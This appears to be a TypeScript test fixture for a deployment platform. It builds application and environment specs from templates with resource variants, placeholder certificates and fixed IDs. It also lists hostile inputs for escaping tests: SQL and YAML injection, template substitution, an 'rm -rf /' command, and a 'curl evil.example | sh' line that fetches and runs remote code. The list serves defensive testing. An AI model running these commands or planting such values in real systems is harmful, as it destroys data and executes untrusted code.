import { saasTemplates, type SaasTemplateId } from '@nuage/shared/catalog';
import { buildApplicationSpec } from '../../../src/engine/templates/build-spec';
import type { ApplicationSpec, EnvironmentSpec } from '../../../src/engine/spec';

/** Test data shared by the manifest and driver tests: real specs from the real templates. */

export interface Variant {
  label: string;
  cpuMilli: number;
  ramMb: number;
  storageMb: number;
  replicas: number;
  domain: string | null;
  tls: boolean;
}

const base = {
  cpuMilli: 500,
  ramMb: 1000,
  storageMb: 20_000,
  replicas: 1,
  domain: null,
  tls: false,
};

/** The wizard's limits: cpu 0.1–8 cores, ram 0.5–16 GB, storage 1–100 GB, replicas 1–10. */
export const VARIANTS: Variant[] = [
  { ...base, label: 'minimum resources', cpuMilli: 100, ramMb: 500, storageMb: 1000 },
  { ...base, label: 'maximum resources', cpuMilli: 8000, ramMb: 16_000, storageMb: 100_000 },
  {
    ...base,
    label: 'maximum resources × 10 replicas',
    cpuMilli: 8000,
    ramMb: 16_000,
    storageMb: 100_000,
    replicas: 10,
  },
  {
    ...base,
    label: 'minimum resources × 10 replicas',
    cpuMilli: 100,
    ramMb: 500,
    storageMb: 1000,
    replicas: 10,
  },
  { ...base, label: 'domain + TLS certificate', domain: 'boutique.exemple.sn', tls: true },
  { ...base, label: 'domain without certificate', domain: 'blog.exemple.sn' },
  { ...base, label: 'without domain' },
];

/** Texts a user can type into names, titles, e-mails and passwords. */
export const HOSTILE_TEXTS = [
  `'; DROP TABLE users; --"`,
  'ligne 1\nligne 2\r\n---\nkind: Secret\nmetadata:\n  name: pwned',
  '{{ .Values.secret }} ${HOME} %s',
  '$(rm -rf /) `reboot` && curl evil.example | sh',
  '$(WORDPRESS_DB_PASSWORD)$(POSTGRES_PASSWORD)$$(X)',
  'key: value\n- item\n? complex\n&anchor *alias !!binary',
  '🚀 Déploiement été — ünïcödé 中文',
  '# not a comment\t\ttabs\u0000nul\u2028sep',
  'n'.repeat(200),
  '---',
  '...',
  '',
];

export const HOSTILE_PASSWORD = `p@ss'"\n---\n{{x}}$(rm -rf /)\`id\`🔑:#&*!|>%@`;
export const PLAIN_PASSWORD = 'Motdepasse-tres-sur-42';

export const TEST_CERTIFICATE = {
  certificatePem:
    '-----BEGIN CERTIFICATE-----\nMIIBfakeCERTIFICATEdata==\n-----END CERTIFICATE-----\n',
  privateKeyPem:
    '-----BEGIN PRIVATE KEY-----\nMIIBfakePRIVATEkeyDATA==\n-----END PRIVATE KEY-----\n',
};

export const IDS = {
  deployment: '3f2c9a1e-7b4d-4c8e-9f10-2a3b4c5d6e7f',
  project: '11111111-2222-4333-8444-555555555555',
  environment: '66666666-7777-4888-9999-aaaaaaaaaaaa',
};

export function makeSpec(opts: {
  template: SaasTemplateId;
  variant?: Variant;
  nom?: string;
  password?: string;
  adminEmail?: string;
  domain?: string | null;
  namespace?: string;
  deploymentId?: string;
}): ApplicationSpec {
  const v = opts.variant ?? VARIANTS[0]!;
  const template = saasTemplates[opts.template];
  const password = opts.password ?? PLAIN_PASSWORD;
  const domain = opts.domain === undefined ? v.domain : opts.domain;
  return buildApplicationSpec({
    deployment: {
      id: opts.deploymentId ?? IDS.deployment,
      projectId: IDS.project,
      environmentId: IDS.environment,
      nom: opts.nom ?? 'Ma boutique',
      template: opts.template,
      imageRegistryUrl: template.image,
      imageTag: template.tag,
      cpuMilli: v.cpuMilli,
      ramMb: v.ramMb,
      storageMb: v.storageMb,
      replicas: v.replicas,
      domain,
      generation: 3,
      adminEmail: opts.adminEmail ?? 'admin@exemple.sn',
    },
    namespace: opts.namespace ?? 'env-boutique-prod-a1b2c3',
    secrets: {
      adminPassword: password,
      dbPassword: `${password}-db`,
      dbRootPassword: `${password}-root`,
    },
    certificate: v.tls && domain ? TEST_CERTIFICATE : null,
  });
}

export function makeEnvironment(namespace = 'env-boutique-prod-a1b2c3'): EnvironmentSpec {
  return {
    environmentId: IDS.environment,
    projectId: IDS.project,
    namespace,
    labels: {
      'nuagedeploy.io/environment-id': IDS.environment,
      'nuagedeploy.io/project-id': IDS.project,
    },
    quota: { cpuMilli: 16_000, ramMb: 32_000, storageMb: 500_000 },
  };
}
